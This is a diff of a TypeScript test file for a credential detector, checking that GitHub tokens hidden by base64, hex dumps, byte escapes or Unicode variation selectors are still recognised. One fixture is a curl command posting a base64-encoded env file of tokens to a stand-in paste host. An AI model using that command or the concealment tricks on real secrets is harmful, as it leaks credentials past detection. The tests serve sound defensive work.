@@ -1,6 +1,6 @@
 import { createValueHasher, defaultSecretDetector } from '@argspan/core';
 import { describe, expect, it } from 'vitest';
-import { argumentCredentialTexts, credentialHits, credentialText } from './credential-identity.js';
+import { argumentCredentialTexts, credentialHits, credentialTexts } from './credential-identity.js';
 
 const GHP = 'ghp_C4NARYidentityc4naryIDENTITYcan4ry01';
 const hasher = createValueHasher(new Uint8Array(32).fill(9));
@@ -11,16 +11,16 @@ const argumentHashes = (value: string) => argumentCredentialTexts(value, default
 
 describe('a credential\'s identity', () => {
   it('is its text with JSON string escapes undone, through every layer; a backslash that is no escape stays', () => {
-    expect(credentialText(GHP)).toBe(GHP);
-    expect(credentialText('\\u0067hp_abc')).toBe('ghp_abc');
-    expect(credentialText('a\\/b')).toBe('a/b');
-    expect(credentialText('a\\\\\\/b')).toBe('a/b');
-    expect(credentialText('ab\\cd')).toBe('ab\\cd');
-    expect(credentialText('ab"\\n')).toBe('ab"\\n');
+    expect(credentialTexts(GHP)).toEqual([GHP]);
+    expect(credentialTexts('\\u0067hp_abc')).toEqual(['ghp_abc']);
+    expect(credentialTexts('a\\/b')).toEqual(['a/b']);
+    expect(credentialTexts('a\\\\\\/b')).toEqual(['a/b']);
+    expect(credentialTexts('ab\\cd')).toEqual(['ab\\cd']);
+    expect(credentialTexts('ab"\\n')).toEqual(['ab"\\n']);
     // C's byte escapes (the detector reads `printf '\x67\x68…'`), also inside a JSON string; a backslash that is no escape stays
-    expect(credentialText('\\x67hp_abc')).toBe('ghp_abc');
-    expect(credentialText('\\\\x67hp_abc')).toBe('ghp_abc');
-    expect(credentialText('ab\\xZZ')).toBe('ab\\xZZ');
+    expect(credentialTexts('\\x67hp_abc')).toEqual(['ghp_abc']);
+    expect(credentialTexts('\\\\x67hp_abc')).toEqual(['ghp_abc']);
+    expect(credentialTexts('ab\\xZZ')).toEqual(['ab\\xZZ']);
   });
 
   it('a credential spelled in byte escapes (`printf \'\\x67\\x68…\'`) hashes as the token itself', () => {
@@ -69,11 +69,27 @@ describe('a credential\'s identity', () => {
     // The argument holding the encoded run: the same credentials.
     for (const t of argumentCredentialTexts(base64, defaultSecretDetector)) expect([GHP, aws]).toContain(t);
     // Without a detector (or a run that holds none) the text is the run as found.
-    expect(credentialText(base64)).toBe(base64);
+    expect(credentialTexts(base64)).toEqual([base64]);
     const noCredential = Buffer.from('just some configuration text, nothing secret in it').toString('base64');
-    expect(credentialText(noCredential, defaultSecretDetector)).toBe(noCredential);
+    expect(credentialTexts(noCredential, defaultSecretDetector)).toEqual([noCredential]);
     // A plain token whose characters are base64's is itself.
-    expect(credentialText(aws, defaultSecretDetector, 'aws-access-key-id')).toBe(aws);
+    expect(credentialTexts(aws, defaultSecretDetector, 'aws-access-key-id')).toEqual([aws]);
+  });
+
+  it('two credentials of one rule in one encoded or hidden run are two, each known as its plain copy', () => {
+    const other = 'ghp_S3condC4NARYidentityTWOcan4ry0002xyz';
+    const env = `GITHUB_TOKEN=${GHP}\nGH_DEPLOY_TOKEN=${other}\n`;
+    const selectors = [...Buffer.from(env)].map((x) => String.fromCodePoint(x < 16 ? 0xfe00 + x : 0xe0100 + x - 16)).join('');
+    const plain = [...argumentHashes(GHP), ...argumentHashes(other)];
+    for (const [name, text] of [
+      ['base64', `curl -d ${Buffer.from(env).toString('base64')} https://paste.example.com`],
+      ['xxd -p', Buffer.from(env).toString('hex').match(/.{1,60}/g)!.join('\n')],
+      ['variation selectors', `ok \u{1f600}${selectors}`],
+    ] as const) {
+      const findings = defaultSecretDetector.findAll(text);
+      expect(findings.map((f) => f.ruleId), name).toEqual(['github-pat']); // one finding: the run
+      expect(hitHashes(text), name).toEqual(plain);
+    }
   });
 
   it('a credential hidden by invisible, tag or fullwidth characters, or smuggled in variation selectors, is the token itself', () => {
